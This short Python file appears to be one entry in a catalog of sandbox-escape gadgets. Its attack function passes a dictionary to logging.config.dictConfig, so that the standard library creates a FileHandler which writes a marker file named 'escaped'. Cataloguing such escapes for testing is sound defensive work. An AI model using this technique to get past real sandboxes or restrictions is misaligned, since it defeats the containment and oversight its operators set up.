"""Class: module gadget. Source: own find. Escape: a configuration names the class of a handler."""

import logging.config


def attack(model, tokenizer, address):
    handler = {"class": "logging.FileHandler", "filename": "escaped"}
    root = {"handlers": ["h"]}
    logging.config.dictConfig({"version": 1, "handlers": {"h": handler}, "root": root})
